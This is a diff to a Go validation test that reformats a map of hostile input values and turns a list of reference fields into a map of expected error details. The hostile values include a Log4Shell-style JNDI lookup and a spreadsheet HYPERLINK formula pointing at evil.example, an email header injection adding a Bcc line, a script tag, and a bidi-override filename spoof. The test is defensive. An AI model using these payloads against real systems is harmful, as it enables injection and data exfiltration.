@@ -26,36 +26,41 @@ const marker = "Wanda Private"
 var hostile = map[string]any{
 	"null": nil, "true": true, "zero": 0, "a negative number": -1, "a fraction": 1.5,
 	"a large number":  json.Number("9007199254740993"),
-	"a larger number": json.Number("123456789012345678901234567890"), "an exponent": json.Number("1e300"),
-	"no text": "",
-	"a space": " ",
-	"a text":  "text", "an empty list": []any{}, "a list": []any{"text"}, "a list in a list": []any{[]any{}},
-	"an empty object": story.Object{},
-	"an object":       story.Object{"unknown": "text"},
-	"a long text":     marker + strings.Repeat("x", 3000), "a control character": marker + "\x00", "an escape": marker +
-		"\x1b[31m",
-	"a bidi override": marker + "\u202egpj.exe", "a line end": marker + "\r\nBcc: eve@evil.example",
+	"a larger number": json.Number("123456789012345678901234567890"),
+	"an exponent":     json.Number("1e300"),
+	"no text":         "", "a space": " ", "a text": "text",
+	"an empty list": []any{}, "a list": []any{"text"}, "a list in a list": []any{[]any{}},
+	"an empty object": story.Object{}, "an object": story.Object{"unknown": "text"},
+	"a long text":          marker + strings.Repeat("x", 3000),
+	"a control character":  marker + "\x00",
+	"an escape":            marker + "\x1b[31m",
+	"a bidi override":      marker + "\u202egpj.exe",
+	"a line end":           marker + "\r\nBcc: eve@evil.example",
 	"a separator of lines": marker + "\u2028",
-	"no character":         marker + "\ufffd", "a byte order mark": "\ufeff" + marker, "a script": "<script>alert('" +
-		marker +
-		"')</script>",
-	"a formula":          "=HYPERLINK(\"http://evil.example\";\"" + marker + "\")",
-	"a template":         "{{.}}${jndi:ldap://evil.example}%s%n",
-	"a key of the table": "PARTNER#%23\x01\U0010ffff", "a number as text": "40", "a percent": "100%",
-	"right to left":     "شركة كونتوسو",
-	"a combined letter": "e\u0301", "an emoji": "👩‍💻", "a GUID in braces": "{3f2504e0-4f89-41d3-9a0c-0305e82c3301}",
+	"no character":         marker + "\ufffd",
+	"a byte order mark":    "\ufeff" + marker,
+	"a script":             "<script>alert('" + marker + "')</script>",
+	"a formula":            "=HYPERLINK(\"http://evil.example\";\"" + marker + "\")",
+	"a template":           "{{.}}${jndi:ldap://evil.example}%s%n",
+	"a key of the table":   "PARTNER#%23\x01\U0010ffff",
+	"a number as text":     "40", "a percent": "100%", "right to left": "شركة كونتوسو",
+	"a combined letter": "e\u0301", "an emoji": "👩‍💻",
+	"a GUID in braces":      "{3f2504e0-4f89-41d3-9a0c-0305e82c3301}",
 	"a date that is none":   "2026-02-30",
-	"an amount with a sign": "-1.00", "an amount with three places": "1.000", "the largest deal": "1000000000000.00",
-	"more than that":      "1000000000000.01",
-	"an exponent as text": "1e3", "two at signs": "a@b@contoso.com", "an address without a domain": "ana@",
+	"an amount with a sign": "-1.00", "an amount with three places": "1.000",
+	"the largest deal": "1000000000000.00", "more than that": "1000000000000.01", "an exponent as text": "1e3",
+	"two at signs": "a@b@contoso.com", "an address without a domain": "ana@",
 	"an address with a name": "Ana <ana@contoso.com>",
 }
 
-// references are the fields whose values only the table or each other can judge: that they are refused is no word of
-// the description.
-var references = []string{
-	"/locationId", "/engagementIds/", "/completedOn", "/opportunityId",
-	"/customerContact/name", "/customerContact/email", "/partnerContact/name", "/partnerContact/email", // D23
+// references are the fields whose values only the table or each other can judge, and what is said of them then: the
+// description has no word of it.
+var references = map[string]string{
+	"/locationId": "", "/engagementIds/": "", "/completedOn": "", "/opportunityId": "",
+	// D23
+	"/customerContact/name":  "must be a name, without",
+	"/partnerContact/name":   "must be a name, without",
+	"/customerContact/email": "must be the customer's, not the partner contact's own",
 }
 
 // TestEveryFieldIsJudgedAsDescribed gives every field of every body every hostile value, takes it away, and adds an
@@ -128,9 +133,11 @@ func pointersOf(t *testing.T, answer localtest.Response, expected []string) []st
 	problem := story.Refused(t, answer, 422, mci.Invalid)
 	var pointers []string
 	for _, mistake := range problem.Errors {
-		isReference := slices.ContainsFunc(references, func(r string) bool {
-			return strings.HasPrefix(mistake.Pointer, r)
-		})
+		isReference := false
+		for field, said := range references {
+			isReference = isReference || strings.HasPrefix(mistake.Pointer, field) &&
+				strings.HasPrefix(mistake.Detail, said)
+		}
 		if !isReference || slices.Contains(expected, mistake.Pointer) {
 			pointers = append(pointers, mistake.Pointer)
 		}
